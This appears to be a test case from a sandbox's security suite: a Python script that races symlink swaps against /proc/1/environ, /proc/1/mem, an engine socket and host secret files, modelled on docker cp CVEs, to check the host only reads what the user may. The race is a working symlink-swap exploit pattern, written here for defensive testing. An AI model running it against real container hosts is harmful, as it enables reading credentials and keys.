# Group: races
# Tries: have the host read a file that the user may not, by a link that is swapped in while it opens.
# Idea: docker cp CVE-2018-15664 and CVE-2019-14271; Judge0 read results with root's rights.
# Outcome: what the host reads is what the user could have read.
# Host: reads
import os
import time

from attack import held, host

TARGETS = ("/proc/1/environ", "/proc/1/mem", "/run/sandkeeper/engine.sock", host("FILE"), host("SERVER_KEY"), "/dev/ptmx")
end = time.monotonic() + 0.7
count = 0
while time.monotonic() < end:
    for target in TARGETS:
        os.symlink(target, "/home/user/link")
        os.replace("/home/user/link", "/home/user/target")
        with open("/home/user/plain", "w") as file:
            file.write("mine")
        os.replace("/home/user/plain", "/home/user/target")
        count += 1
held("%d swaps" % count)
